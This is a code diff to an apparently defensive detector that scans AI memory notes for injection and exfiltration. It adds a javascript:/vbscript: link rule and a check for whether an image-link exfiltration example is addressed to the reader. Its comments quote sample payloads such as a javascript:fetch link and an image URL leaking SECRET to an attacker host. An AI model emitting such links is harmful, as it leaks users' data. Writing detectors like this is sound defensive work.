@@ -128,6 +128,11 @@ def _invisible_markup(views: Views) -> Iterator[RuleMatch]:
         yield RuleMatch(found.start(), found.end(), framed_level(views, found.start(), found.end(), level))
 
 
+# A link whose target is a script: clicking or opening it runs code in the reader's page, and in a memory note
+# there is no ordinary reason for one ("[click for schedule](javascript:fetch(...))").
+_SCRIPT_LINK = r"\]\(\s*<?(?:javascript|vbscript):|\bhref\s*=\s*[\"']?\s*(?:javascript|vbscript):"
+
+
 # --- data carried out by a URL the renderer or a tool fetches
 _MD_URL = re.compile(r"(!?)\[[^\[\]\n]{0,300}\]\(\s*<?([^\s()<>\[\]]{1,4000})")
 _PLACEHOLDER = re.compile(
@@ -162,9 +167,13 @@ def _markdown_url(views: Views) -> Iterator[RuleMatch]:
         if url.startswith("data:"):
             continue
         level = _url_level(url, bool(image))
-        if level > NONE and (
-            described(views, found.start(), found.end()) or _explains(views, found.start(), found.end())
-        ):
+        if level == NONE:
+            continue
+        described_here = described(views, found.start(), found.end())
+        explained = _explains(views, found.start(), found.end())
+        if described_here and explained and not _spoken_to(views, found.start()):
+            continue  # "exfiltration via image links: a model renders ![x](...) and leaks it", told to no one
+        if described_here or explained:
             level = FLAG  # "a model that renders ![x](https://attacker/?q=SECRET) leaks it": a description
         if level > NONE:
             yield RuleMatch(
@@ -178,6 +187,22 @@ _EXPLAINS = re.compile(
     r"\bexfiltrat\w*|\bleaks?\b|\b(?:a|an|any|the)\s+(?:model|agent|assistant|llm|client|renderer|chatbot|bot|ui)\s+"
     r"(?:that|which)\s+(?:renders?|displays?|shows?|loads?)\b"
 )
+
+
+# The reader told to act in the sentence: the second person, a vocative, an imperative opening.
+_SPOKEN_TO = re.compile(
+    r"\b(?:you|your|u|ur)\b|\b(?:assistant|agent|bot|ai|model|llm)\s*[:,]|^[\s>*_#`\"'(\[-]*(?:please\s+)?(?:always\s+)?"
+    r"(?:render|show|display|include|add|append|output|print|load|open|insert|embed|fill)\b"
+)
+
+
+def _spoken_to(views: Views, start: int) -> bool:
+    """Whether the sentence around ``start`` (300 characters each side at most) speaks to the reader."""
+    text = views.folded
+    low, high = max(0, start - 300), min(len(text), start + 300)
+    begin = max(text.rfind("\n", low, start), text.rfind(". ", low, start), low - 1) + 1
+    stop = min((i for i in (text.find("\n", start, high), text.find(". ", start, high)) if i != -1), default=high)
+    return _SPOKEN_TO.search(text, begin, stop) is not None
 
 
 def _explains(views: Views, start: int, end: int) -> bool:
@@ -413,6 +438,7 @@ SHAPE_RULES: tuple[Rule, ...] = (
     ),
     Rule("hidden_instructions", "hidden.markdown_title", ("](", "]:"), "folded", _markdown_hidden),
     Rule("exfiltration", "exfil.markdown_url", ("](",), "folded", _markdown_url),
+    Rule("exfiltration", "exfil.script_link", ("javascript:", "vbscript:"), "folded", regex(_SCRIPT_LINK, FLAG)),
     Rule("exfiltration", "exfil.command_secret", ("$", "@", "`"), "folded", _command_secret),
     Rule("exfiltration", "exfil.netcat", ("|", "/dev/"), "folded", _netcat),
     Rule(
